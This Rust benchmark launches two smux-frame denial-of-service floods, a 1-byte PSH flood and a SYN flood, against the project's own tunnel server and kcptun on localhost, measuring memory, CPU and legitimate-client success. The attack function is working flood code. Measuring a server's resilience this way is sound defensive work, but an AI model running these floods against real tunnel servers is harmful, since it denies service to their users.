//! The smux attacks of a hostile tunnel client, run against our server and kcptun
//! 20210922's `kcptun-server` with the same settings, on 127.0.0.1; prints a table.
//!
//! The attacker is a real KCP client with the key (what any user of a shared tunnel, or
//! anyone when the tunnel has no encryption, is) that writes raw smux frames and never
//! reads what the server sends:
//!
//! - `1-byte PSH`: opens a stream whose target stops reading after 4 bytes, then sends
//!   1-byte PSH frames to it for the whole attack;
//! - `SYN flood`: sends SYN frames with new stream ids for the whole attack, to a target
//!   that refuses connections (each refused stream owes the attacker a FIN).
//!
//! Meanwhile a legitimate client, on a session of its own, checks the server still works:
//! for `1-byte PSH`, it echoes 64 KiB through the target byte for byte, again and again;
//! for `SYN flood` (whose target refuses everyone), it opens a stream and waits for the
//! server's FIN. Reported per server and attack: the attacker's bytes accepted by KCP, the
//! server's resident memory growth (peak of `VmRSS` sampled every 50 ms, minus before),
//! the server's CPU seconds per second of attack (`/proc/PID/stat`), and the legitimate
//! rounds that succeeded.
//!
//! ```text
//! cargo bench -p kcp-tunnel --bench attack -- [--seconds 8]
//! cargo bench -p kcp-tunnel --bench attack -- --test   # one 2 s round, as a check
//! ```

use kcp_testkit::proc_stat::{self, Pid};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

use clap::{CommandFactory, Parser};
use kcp_session::{KcpStream, Settings};
use kcp_tunnel::KcpFlags;
use kcp_tunnel::smux::frame::{Cmd, Header};
use kcp_tunnel::smux::{MuxConfig, Session};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

/// The issue-16 smux attacks against kcp-tunnel and kcptun servers
#[derive(Parser, Debug)]
#[command(name = "attack")]
struct Args {
    /// Seconds each attack runs
    #[arg(long, default_value_t = 8)]
    seconds: u64,
    /// Our binary (default: the kcp-tunnel this benchmark was built with)
    #[arg(long)]
    ours: Option<PathBuf>,
    /// One 2-second round of each, as a check
    #[arg(long)]
    test: bool,
    /// Passed by `cargo bench`; no effect
    #[arg(long, hide = true)]
    bench: bool,
}

const KEY: &str = "attack";

/// A process killed on drop.
struct Proc(Child);

impl Drop for Proc {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

impl Proc {
    /// utime + stime in seconds.
    fn cpu(&self) -> f64 {
        proc_stat::cpu_time(Pid::Other(self.0.id())).as_secs_f64()
    }

    /// Resident memory in bytes.
    fn rss(&self) -> u64 {
        proc_stat::rss(Pid::Other(self.0.id()))
    }
}

fn free_port(udp: bool) -> u16 {
    if udp {
        let s = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
        s.local_addr().unwrap().port()
    } else {
        let s = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        s.local_addr().unwrap().port()
    }
}

fn udp_bound(port: u16) -> bool {
    let hex = format!(":{port:04X}");
    std::fs::read_to_string("/proc/net/udp")
        .unwrap_or_default()
        .lines()
        .any(|l| {
            l.split_whitespace()
                .nth(1)
                .is_some_and(|a| a.ends_with(&hex))
        })
}

/// Starts a server (`sub` is `Some("server")` for ours) on a free UDP port.
fn server(bin: &Path, sub: Option<&str>, target: &str) -> (Proc, u16) {
    let port = free_port(true);
    let mut cmd = Command::new(bin);
    if let Some(s) = sub {
        cmd.arg(s);
    }
    cmd.args(["-l", &format!("127.0.0.1:{port}"), "-t", target])
        // smux v1, kcptun 20210922's default and the attacker's.
        .args(["--key", KEY, "--nocomp", "--quiet", "--smuxver", "1"])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    let p = Proc(
        cmd.spawn()
            .unwrap_or_else(|e| panic!("spawn {}: {e}", bin.display())),
    );
    let deadline = Instant::now() + Duration::from_secs(20);
    while !udp_bound(port) {
        assert!(Instant::now() < deadline, "{} never bound", bin.display());
        std::thread::sleep(Duration::from_millis(20));
    }
    (p, port)
}

/// The target: echoes every connection, except one that starts with `HOLD`, which it
/// keeps open and never reads again.
async fn target() -> std::net::SocketAddr {
    let socket = tokio::net::TcpSocket::new_v4().unwrap();
    // A small window, so a held connection stops taking bytes soon.
    socket.set_recv_buffer_size(4096).unwrap();
    socket.bind("127.0.0.1:0".parse().unwrap()).unwrap();
    let listener: TcpListener = socket.listen(128).unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        loop {
            let Ok((mut s, _)) = listener.accept().await else {
                return;
            };
            tokio::spawn(async move {
                let mut head = [0u8; 4];
                if s.read_exact(&mut head).await.is_err() {
                    return;
                }
                if &head == b"HOLD" {
                    std::future::pending::<()>().await;
                }
                let _ = s.write_all(&head).await;
                let (mut r, mut w) = s.split();
                let _ = tokio::io::copy(&mut r, &mut w).await;
            });
        }
    });
    addr
}

fn settings() -> Settings {
    let flags = KcpFlags {
        key: KEY.into(),
        ..KcpFlags::default()
    };
    flags.config().build().unwrap()
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Attack {
    OneBytePsh,
    SynFlood,
}

impl Attack {
    fn name(self) -> &'static str {
        match self {
            Attack::OneBytePsh => "1-byte PSH",
            Attack::SynFlood => "SYN flood",
        }
    }
}

/// Sends the attack's frames until `until`; returns the bytes KCP accepted.
async fn attack(kind: Attack, server: u16, until: Instant) -> u64 {
    let kcp = KcpStream::connect(&format!("127.0.0.1:{server}"), &settings())
        .await
        .unwrap();
    // Never read: the receive half is kept and left alone.
    let (_r, mut w) = kcp.into_split();
    let mut sent = 0u64;
    let mut next_sid = 1u32;
    if kind == Attack::OneBytePsh {
        let mut open = Vec::new();
        Header::emit(&mut open, 1, Cmd::Syn, 0, 3);
        Header::emit(&mut open, 1, Cmd::Psh, 4, 3);
        open.extend_from_slice(b"HOLD");
        w.write_all(&open).await.unwrap();
    }
    let mut one = Vec::new();
    Header::emit(&mut one, 1, Cmd::Psh, 1, 3);
    one.push(b'x');
    let psh_chunk = one.repeat(4096);
    loop {
        let chunk = match kind {
            Attack::OneBytePsh => psh_chunk.clone(),
            Attack::SynFlood => {
                let mut c = Vec::with_capacity(8 * 4096);
                for _ in 0..4096 {
                    next_sid = next_sid.wrapping_add(2);
                    Header::emit(&mut c, 1, Cmd::Syn, 0, next_sid);
                }
                c
            }
        };
        let left = until.saturating_duration_since(Instant::now());
        if left.is_zero() {
            break;
        }
        match tokio::time::timeout(left, w.write_all(&chunk)).await {
            Ok(Ok(())) => sent += chunk.len() as u64,
            _ => break,
        }
    }
    sent
}

/// A legitimate client's rounds until `stop`: (succeeded, tried).
async fn legit(kind: Attack, server: u16, stop: Arc<AtomicBool>) -> (u64, u64) {
    let ok = AtomicU64::new(0);
    let mut tried = 0;
    let Ok(kcp) = KcpStream::connect(&format!("127.0.0.1:{server}"), &settings()).await else {
        return (0, 1);
    };
    let (r, w) = kcp.into_split();
    let session = Session::client(r, w, MuxConfig::default(), false);
    let mut data = vec![0u8; 64 << 10];
    kcp_testkit::sim::Rng::new(3).fill(&mut data);
    while !stop.load(Ordering::Relaxed) {
        tried += 1;
        let round = async {
            let mut s = session.open().ok()?;
            match kind {
                Attack::OneBytePsh => {
                    let (mut rd, mut wr) = tokio::io::split(s);
                    let sent = data.clone();
                    let writer = async move { wr.write_all(&sent).await };
                    let mut got = vec![0u8; data.len()];
                    let (w, r) = tokio::join!(writer, rd.read_exact(&mut got));
                    (w.is_ok() && r.is_ok() && got == data).then_some(())
                }
                Attack::SynFlood => {
                    let mut buf = [0u8; 16];
                    (s.read(&mut buf).await.ok()? == 0).then_some(())
                }
            }
        };
        if let Ok(Some(())) = tokio::time::timeout(Duration::from_secs(10), round).await {
            ok.fetch_add(1, Ordering::Relaxed);
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    session.close();
    (ok.load(Ordering::Relaxed), tried)
}

struct Row {
    server: &'static str,
    attack: Attack,
    sent: u64,
    rss_growth: u64,
    cpu_per_s: f64,
    legit: (u64, u64),
}

fn main() {
    let mut args: Args = kcp_tunnel::cli::parse_go_style(Args::command(), std::env::args_os());
    if args.test {
        args.seconds = 2;
    }
    let ours = args
        .ours
        .clone()
        .unwrap_or_else(|| env!("CARGO_BIN_EXE_kcp-tunnel").into());
    let servers: [(&'static str, PathBuf, Option<&str>); 2] = [
        ("kcp-tunnel", ours, Some("server")),
        ("kcptun", "kcptun-server".into(), None),
    ];
    let rt = tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()
        .unwrap();
    let echo = rt.block_on(target());
    // A port nobody listens on: connections to it are refused at once.
    let refused = format!("127.0.0.1:{}", free_port(false));
    let mut rows = Vec::new();
    for (name, bin, sub) in &servers {
        for kind in [Attack::OneBytePsh, Attack::SynFlood] {
            let to = match kind {
                Attack::OneBytePsh => echo.to_string(),
                Attack::SynFlood => refused.clone(),
            };
            let (proc_, port) = server(bin, *sub, &to);
            std::thread::sleep(Duration::from_millis(200));
            let (rss0, cpu0) = (proc_.rss(), proc_.cpu());
            let stop = Arc::new(AtomicBool::new(false));
            let started = Instant::now();
            let until = started + Duration::from_secs(args.seconds);
            let legit_task = rt.spawn(legit(kind, port, Arc::clone(&stop)));
            let attack_task = rt.spawn(attack(kind, port, until));
            let mut peak = rss0;
            while Instant::now() < until + Duration::from_millis(500) {
                peak = peak.max(proc_.rss());
                std::thread::sleep(Duration::from_millis(50));
            }
            let elapsed = started.elapsed().as_secs_f64();
            let cpu = proc_.cpu() - cpu0;
            stop.store(true, Ordering::Relaxed);
            let sent = rt.block_on(attack_task).unwrap_or(0);
            let legit = rt.block_on(legit_task).unwrap_or((0, 0));
            rows.push(Row {
                server: name,
                attack: kind,
                sent,
                rss_growth: peak.saturating_sub(rss0),
                cpu_per_s: cpu / elapsed,
                legit,
            });
            drop(proc_);
        }
    }
    println!(
        "smux attacks on 127.0.0.1, {} s each, --key {KEY} --nocomp --smuxver 1, otherwise defaults",
        args.seconds
    );
    println!(
        "{:<11} {:<11} {:>12} {:>14} {:>10} {:>10}",
        "server", "attack", "sent (MB)", "RSS growth MB", "CPU s/s", "legit ok"
    );
    for r in &rows {
        println!(
            "{:<11} {:<11} {:>12.1} {:>14.1} {:>10.2} {:>10}",
            r.server,
            r.attack.name(),
            r.sent as f64 / 1e6,
            r.rss_growth as f64 / 1e6,
            r.cpu_per_s,
            format!("{}/{}", r.legit.0, r.legit.1)
        );
    }
    rt.shutdown_timeout(Duration::from_secs(1));
}
